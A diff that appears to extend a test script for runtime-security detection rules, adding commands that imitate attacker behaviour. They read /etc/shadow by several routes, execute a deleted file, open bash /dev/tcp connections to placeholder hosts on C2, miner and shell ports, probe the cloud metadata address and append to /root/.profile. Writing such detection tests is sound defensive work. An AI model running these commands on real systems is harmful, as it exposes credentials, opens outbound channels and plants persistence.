@@ -150,3 +150,41 @@ tool xmrig && "$tools/xmrig"
 ln -sf /etc/shadow "$scratch/innocent" && cat "$scratch/innocent"
 # Program without a file started
 perl -e 'open my $in, "<", "/bin/true"; binmode $in; local $/; my $p = <$in>; my $f = "$ARGV[0]/gone"; open my $o, ">", $f; print $o $p; close $o; chmod 0755, $f; open my $x, "<", $f; require Fcntl; fcntl($x, 2, 0); unlink $f; my $n = fileno $x; exec "/proc/self/fd/$n"' "$scratch"
+# Read sensitive file trusted after startup
+shell nginx && cp "$tools/nginx" /usr/sbin/nginx && /usr/sbin/nginx -c 'sleep 5.2; read -r line </etc/shadow'
+# Arguments too long to be kept
+sh -c ": $(head -c 20000 /dev/zero | tr '\0' a)"
+# Backdoored library loaded into SSHD (CVE-2024-3094)
+cp "$(command -v cat)" /usr/sbin/sshd && : >/usr/lib/liblzma.so.5.6.1 && /usr/sbin/sshd /usr/lib/liblzma.so.5.6.1
+# Cloud metadata fetched by a tool
+alone 169.254.169.254 'perl -MIO::Socket::INET -e "IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(169.254.169.254), PeerPort => 80)"'
+# Connection to a port of miner pools
+alone 203.0.113.9 'listening 203.0.113.9 3333; cp "$(command -v bash)" /var/tmp/act-shell; /var/tmp/act-shell -c "exec 3<>/dev/tcp/203.0.113.9/3333"'
+# Detect outbound connections to common miner pool ports
+alone 203.0.113.9 'listening 127.0.0.1 3333; bash -c "exec 3<>/dev/tcp/127.0.0.1/3333"'
+# Interpreted procs outbound network activity
+alone 203.0.113.9 'listening 203.0.113.9 80; perl -MIO::Socket::INET -e "IO::Socket::INET->new(q(203.0.113.9:80)) or die"'
+# Java Process Class File Download
+shell java && alone 203.0.113.9 'listening 127.0.0.1 8080 "\xca\xfe\xba\xbe"; "$tools/java" -c "exec 3<>/dev/tcp/127.0.0.1/8080; read -r -n 1 class <&3"'
+# Name of a file not in memory
+printf '/etc/shadow\0' >/var/tmp/act-name && perl -e 'open my $f, "<", "/var/tmp/act-name" or die; my $at = syscall(9, 0, 4096, 1, 2, fileno $f, 0); syscall(257, -100, $at, 0) >= 0 or die $!'
+# Non sudo setuid
+echo 1000 >/proc/self/loginuid && call 105 0
+# Outbound connection to C2 servers
+alone 203.0.113.66 'listening 203.0.113.66 443; bash -c "exec 3<>/dev/tcp/203.0.113.66/443"'
+# Package installation opens a shell connection
+alone 203.0.113.9 'listening 203.0.113.9 4444; "$tools/npm" -c "bash -c \"exec 3<>/dev/tcp/203.0.113.9/4444\"; true"'
+# Package script changes start-up or login files
+shell dpkg && cp "$tools/dpkg" /usr/bin/dpkg && /usr/bin/dpkg -c 'echo true >>/root/.profile'
+# Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)
+cp /bin/true /usr/bin/pkexec && setpriv --reuid 65534 /usr/bin/pkexec
+# Registers of the processor opened for writing
+unshare --mount sh -c 'mount -t tmpfs none /dev && mkdir -p /dev/cpu/0 && : >>/dev/cpu/0/msr'
+# Sensitive call through io_uring
+perl "$acts/io-uring.pl" /etc/shadow
+# Sensitive file mounted under another name
+touch "$scratch/mounted" && mount --bind /etc/shadow "$scratch/mounted"
+# System call of 32 bits
+perl "$acts/elf32.pl" "$tools/act32" && "$tools/act32"
+# Unexpected UDP Traffic
+alone 203.0.113.9 'perl -MIO::Socket::INET -e "IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(203.0.113.9), PeerPort => 9999)"'
